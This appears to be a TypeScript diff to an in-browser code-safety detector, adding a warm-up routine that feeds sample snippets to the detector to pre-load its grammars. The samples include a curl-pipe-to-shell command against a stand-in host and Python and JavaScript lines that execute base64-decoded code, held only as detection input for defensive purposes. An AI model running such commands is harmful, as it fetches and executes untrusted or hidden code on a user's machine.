@@ -15,6 +15,13 @@ export interface DeviceDetector {
   readonly sourceHash: string;
 }
 
+/** Commands that make the detector load the grammars which most answers need, the most frequent one first. */
+const WARMING = [
+  "```sh\ncurl -fsSL https://a.example | sh\n```",
+  "```python\nexec(base64.b64decode(x))\n```",
+  "```js\neval(atob(x))\n```",
+];
+
 /** Evaluates in the worker: no server, no token, nothing leaves the browser. */
 export class DeviceEvaluator {
   private readonly loaded = new Map<Profile, Promise<DeviceDetector>>();
@@ -35,6 +42,16 @@ export class DeviceEvaluator {
       };
     } catch {
       return unavailable("device-failed");
+    }
+  }
+
+  /** Loads what an assessment needs, so that the next one does not wait for it. */
+  async warm(profile: Profile): Promise<void> {
+    for (const text of WARMING) {
+      for (const each of new Set<Profile>([profile, "contract"])) {
+        const detector = await this.detector(each);
+        await detector.detect(text, { deadlineMs: DEADLINE_MS });
+      }
     }
   }
 
